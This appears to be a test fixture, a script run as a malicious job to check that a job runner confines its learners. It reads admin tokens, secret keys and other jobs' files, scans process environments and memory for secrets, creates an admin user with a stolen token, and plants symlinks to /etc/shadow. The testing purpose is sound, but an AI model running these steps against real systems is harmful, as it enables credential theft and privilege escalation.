"""What a malicious job tries from inside its learner; shipped as a job's code by the attack
tests. Each attempt prints `ATTACK <name>: blocked (...)` or `ATTACK <name>: SUCCEEDED (...)`,
and the script always exits 0: a confined job still completes normally."""

from __future__ import annotations

import json
import os
import socket
import sys
import urllib.request


def report(name: str, ok: bool, detail: str) -> None:
    print(f"ATTACK {name}: {'SUCCEEDED' if ok else 'blocked'} ({detail[:200]})", flush=True)


def try_read(name: str, path: str) -> None:
    try:
        with open(path, "rb") as handle:
            data = handle.read(4096)
        report(name, True, f"read {len(data)} bytes of {path}")
    except OSError as exc:
        report(name, False, f"{type(exc).__name__}: {exc.strerror}")


def visible_pids() -> list[int]:
    return sorted(int(p) for p in os.listdir("/proc") if p.isdigit())


def scan_processes(needles: list[bytes]) -> None:
    """Every process this learner can see: its environment, command line and memory."""
    found = []
    for pid in visible_pids():
        if pid == os.getpid():
            continue  # this script decoded the needles itself
        for part in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{part}", "rb") as handle:
                    data = handle.read()
            except OSError:
                continue
            found += [f"{pid}/{part}" for n in needles if n in data]
        found += [f"{pid}/mem" for n in needles if n in memory_of(pid)]
    report("secrets-in-processes", bool(found), f"pids {visible_pids()} hits {found}")
    env = [k for k in os.environ if k.startswith(("LOOM_", "AWS_"))]
    report("server-environment", bool(env), f"variables {env}")


def memory_of(pid: int, largest: int = 64 << 20) -> bytes:
    """What a process holds in its readable memory (regions up to `largest` bytes)."""
    chunks = []
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as mem:
            for line in maps:
                span, perms = line.split()[:2]
                if "r" not in perms:
                    continue
                start, end = (int(x, 16) for x in span.split("-"))
                if end - start > largest:
                    continue
                try:
                    mem.seek(start)
                    chunks.append(mem.read(end - start))
                except (OSError, OverflowError, ValueError):
                    continue
    except OSError:
        return b""
    return b"".join(chunks)


def create_user(api: str) -> None:
    token = os.environ.get("LOOM_TOKEN", "")
    for path in (os.environ.get("ATTACK_HOME", "") + "/token",):
        try:
            with open(path) as handle:
                token = handle.read().strip()
        except OSError:
            pass
    request = urllib.request.Request(
        f"{api}/v1/users",
        data=json.dumps({"name": "mallory", "admin": True}).encode(),
        headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"},
        method="POST",
    )
    try:
        with urllib.request.urlopen(request, timeout=5) as answer:
            report("create-admin", True, f"HTTP {answer.status}")
    except urllib.error.HTTPError as exc:
        report("create-admin", False, f"HTTP {exc.code}")
    except OSError as exc:
        report("create-admin", False, str(exc))


def plant_links(home: str, victim: str) -> None:
    results = os.environ["RESULT_DIR"]
    os.makedirs(f"{results}/model", exist_ok=True)
    planted = {
        f"{results}/model/model.onnx": f"{home}/token",
        f"{results}/shadow.txt": "/etc/shadow",
        f"{results}/learner-1/training-log.txt": victim,
    }
    os.makedirs(f"{results}/learner-1", exist_ok=True)
    for link, target in planted.items():
        os.symlink(target, link)
    try:
        os.link(f"{home}/token", f"{results}/hard-token")
        report("hard-link", True, "linked the admin token")
    except OSError as exc:
        report("hard-link", False, exc.strerror or "")
    try:
        with open(os.path.join(results, "..", "escaped.txt"), "w") as out:
            out.write("outside")
        report("write-outside-results", True, "wrote beside RESULT_DIR")
    except OSError as exc:
        report("write-outside-results", False, exc.strerror or "")


def main() -> None:
    args = json.loads(bytes.fromhex(sys.argv[1]))
    home, server_pid, other, api = args["home"], args["server_pid"], args["other"], args["api"]
    needles = [n.encode() for n in args["needles"]]
    os.environ["ATTACK_HOME"] = home
    try_read("admin-token", f"{home}/token")
    try_read("database", f"{home}/loom.db")
    try_read("secret-key", f"{home}/secret.key")
    try_read("server-environ", f"/proc/{server_pid}/environ")
    try_read("other-job-code", f"{home}/jobs/{other}/learners/learner-1/model/sleeper.py")
    try_read("other-job-spool", f"{home}/jobs/{other}/learners/learner-1/attempt-1/spool.jsonl")
    try_read("other-job-spec", f"{home}/jobs/{other}/learners/learner-1/attempt-1/spec.json")
    scan_processes(needles)
    create_user(api)
    plant_links(home, args["victim"])
    print("hostname", socket.gethostname(), "uid", os.getuid(), flush=True)


if __name__ == "__main__":
    main()
